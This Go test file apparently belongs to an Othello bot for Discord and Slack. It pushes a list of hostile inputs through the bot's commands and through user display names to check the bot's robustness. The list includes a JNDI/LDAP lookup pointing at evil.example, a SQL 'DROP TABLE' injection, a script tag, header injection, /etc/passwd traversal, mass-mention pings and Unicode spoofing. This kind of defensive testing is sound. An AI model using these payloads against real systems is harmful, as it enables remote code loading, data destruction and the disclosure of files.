package app

import (
	"maps"
	"net/http"
	"slices"
	"strings"
	"time"

	"othellobot/adapters/discord"
	"othellobot/adapters/slack"
	"othellobot/adapters/slack/slacktest"
)

// hostileTexts lists what somebody may type to have the bot say it, or do it.
var hostileTexts = map[string]string{
	"everyone":                    "@everyone " + canary,
	"here":                        "@here",
	"a channel":                   "<!channel> " + canary,
	"a group":                     "<!subteam^S0EVIL|@admins>",
	"a role":                      "<@&1456074443980800007>",
	"a user":                      "<@1456074443980800007> " + canary,
	"a link with a name":          "[free](https://evil.example/" + canary + ")",
	"a link of Slack's":           "<https://evil.example/" + canary + "|free>",
	"an image":                    "![x](https://evil.example/x.png)",
	"a command to press":          "</othello stop:1>",
	"a heading":                   "# " + canary,
	"a quotation":                 "> " + canary + "\n>>> all",
	"code":                        "`" + canary + "`",
	"a block of code":             "```\n" + canary + "\n```",
	"stars":                       "**" + canary + "** __x__ ~~y~~ ||z||",
	"turned around":               "\u202e" + canary + "\u202c",
	"isolated":                    "\u2066" + canary + "\u2069",
	"marks upon marks":            "d" + strings.Repeat("\u0301\u0327", 200) + canary,
	"nothing to be seen":          strings.Repeat("\u200b\u2060\ufeff", 50) + canary,
	"lines":                       canary + strings.Repeat("\n", 500) + "x",
	"a header":                    canary + "\r\nSet-Cookie: x=y\r\n\r\n",
	"a line of a log":             canary + "\nlevel=ERROR msg=\"all is lost\"",
	"a format":                    "%s%n%x%!d(string=" + canary + ")%",
	"a template":                  "{{.}}${jndi:ldap://evil.example/" + canary + "}",
	"a query":                     "'; DROP TABLE games; --" + canary,
	"a page":                      "<script>alert('" + canary + "')</script>",
	"an end of JSON":              `"},{"content":"` + canary,
	"a path":                      "../../../../etc/passwd",
	"a control":                   "o1:0:0:open:d3",
	"a colour of a terminal":      "\x1b[2J\x1b[31m" + canary,
	"a zero byte":                 "d3\x00" + canary,
	"bytes that are no text":      "d\xff\xfe" + canary,
	"very much":                   strings.Repeat(canary+" ", 500),
	"one long word":               strings.Repeat("a", 4_000),
	"a number":                    strings.Repeat("9", 400),
	"a number below zero":         "-1",
	"a square off the board":      "i9",
	"a wide square":               "ｉ９",
	"digits of another script":    "d\u0663\u0664",
	"letters of another alphabet": "\u0501\u0437",
	"emoji":                       strings.Repeat("👩‍👩‍👧‍👦", 60),
	"a wave":                      strings.Repeat("﷽", 100),
}

// worded are attacks with each of the texts. The function gives what is sent with
// one: it is answered, and each by somebody else, so that none is held back.
func worded(change func(text string) string, write func(s *target, text string) []*http.Request) (all []attack) {
	for _, name := range slices.Sorted(maps.Keys(hostileTexts)) {
		text := change(hostileTexts[name])
		all = append(all, attack{name: name, do: func(s *target) {
			for i, r := range write(s, text) {
				time.Sleep(breath)
				if answer := s.send(r); answer.StatusCode != http.StatusOK {
					s.t.Errorf("%s: the request %d of it is answered %d", name, i, answer.StatusCode)
				}
			}
		}})
	}
	return all
}

func asItIs(text string) string { return text }

// asAlias is a text as a name.
func asAlias(text string) string { return strings.ReplaceAll(text, canary, alias) }

// discordCommands have a text in each place where a command has one, and in what
// is typed for a completion.
func discordCommands() []attack {
	return worded(asItIs, func(s *target, text string) (all []*http.Request) {
		const (
			command, completion = 2, 4    // of interactions
			words, number, user = 3, 4, 6 // of options
		)
		for _, at := range []struct {
			verb, option string
			kind         int
			of           int
		}{
			{"move", "square", words, command},
			{"check", "square", words, command},
			{"check", "board", words, command},
			{"board", "format", words, command},
			{"start", "opponent", words, command},
			{"start", "opponent", user, command},
			{"start", "with", words, command},
			{"start", "level", number, command},
			{"load", "moves", words, command},
			{"settings", "theme", words, command},
			{"help", "topic", words, command},
			{"check", text, words, command},
			{text, "square", words, command},
			{"move", "square", words, completion},
			{"settings", "theme", words, completion},
		} {
			data := discordData(at.verb)
			given := map[string]any{"name": at.option, "type": at.kind, "value": text, "focused": at.of == completion}
			data["options"].([]any)[0].(map[string]any)["options"] = []any{given}
			fields := map[string]any{"type": at.of, "data": data}
			all = append(all, s.discordRequest(s.discordInteraction(s.ground(discord.Platform, "duel"), "cy", fields)))
		}
		return all
	})
}

// slackCommands have a text in a command, as Slack sends what was typed, and as it
// sends what is markup.
func slackCommands() []attack {
	return worded(asItIs, func(s *target, text string) (all []*http.Request) {
		g := s.ground(slack.Platform, "duel")
		for _, before := range []string{
			"", "move ", "check ", "check black board:", "board ", "start ", "start bot level:", "load ", "settings theme:",
			"help ", "accept ", "undo ",
		} {
			all = append(all, s.slackCommand(g, "cy", before+slacktest.Typed(text), nil), s.slackCommand(g, "cy", before+text, nil))
		}
		return all
	})
}

// discordNames are names that people have given themselves, in commands that are
// refused or change nothing.
func discordNames() []attack {
	return worded(asAlias, func(s *target, text string) (all []*http.Request) {
		g := s.ground(discord.Platform, "duel")
		named := map[string]any{"id": "1", "username": text, "global_name": text, "bot": true}
		for _, verb := range []string{"history", "move", "help"} {
			in := s.discordInteraction(g, "ana", map[string]any{"type": 2, "data": discordData(verb, option{"square", "a1"}), "locale": text})
			user := in["member"].(map[string]any)["user"].(map[string]any)
			user["username"], user["global_name"] = text, text
			all = append(all, s.discordRequest(in))
		}
		data := discordData("start")
		data["options"].([]any)[0].(map[string]any)["options"] = []any{map[string]any{"name": "opponent", "type": 6, "value": "1"}}
		data["resolved"] = map[string]any{"users": map[string]any{"1": named}}
		return append(all, s.discordRequest(s.discordInteraction(g, "cy", map[string]any{"type": 2, "data": data})))
	})
}

// slackNames are names that people have given themselves, as Slack tells them with
// what they do. The bot shows Ana's to others, as long as she is called so.
func slackNames() []attack {
	return worded(asAlias, func(s *target, text string) []*http.Request {
		g := s.ground(slack.Platform, "duel")
		label := strings.NewReplacer("<", "", ">", "", "|", "").Replace(text)
		looks := func(user string) *http.Request { return s.slackCommand(g, user, "board words", nil) }
		return []*http.Request{
			s.slackCommand(g, "ana", "history", map[string]string{"user_name": text, "channel_name": text, "team_domain": text}),
			looks("dora"), looks("bo"),
			s.slackPress(g, "ana", func(payload map[string]any) {
				payload["actions"] = slackActions("o1:0:0:x")
				payload["user"] = map[string]any{"id": g.User("ana").ID, "username": text, "name": text}
			}),
			looks("dora"), looks("bo"),
			s.slackCommand(g, "cy", "<@"+g.User("ana").ID+"|"+label+"> accept", nil),
			looks("dora"),
			s.slackCommand(g, "ana", "help", nil), // by which she is Ana again
		}
	})
}
